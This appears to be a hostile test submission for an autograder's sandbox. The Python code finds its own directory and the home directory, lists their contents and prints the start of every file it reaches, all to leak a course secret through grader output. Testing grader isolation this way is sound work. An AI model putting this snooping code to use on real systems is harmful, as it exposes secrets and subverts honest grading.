# question: forward_vs_reverse
# base: solution
# Class 3 (reading what it must not): the course secret in a file next to the submission,
# found by the submission's own path (__file__, the frames' filenames) and by a guessed
# absolute path the test passes in; whatever is read is printed (the grader keeps output).
import os
import sys

TARGETS = "__TARGETS__".split("|")


def _grab(path, depth=0):
    try:
        if os.path.isdir(path):
            for name in sorted(os.listdir(path))[:50]:
                print("LIST", path, name)
                if depth < 1:
                    _grab(os.path.join(path, name), depth + 1)
        else:
            with open(path, "rb") as f:
                print("READ", path, f.read(400))
    except Exception as e:  # noqa: BLE001
        print("DENIED", path, type(e).__name__)


_here = globals().get("__file__") or sys._getframe(0).f_code.co_filename
for _p in TARGETS + [os.path.dirname(os.path.abspath(str(_here))), os.path.expanduser("~")]:
    _grab(_p)
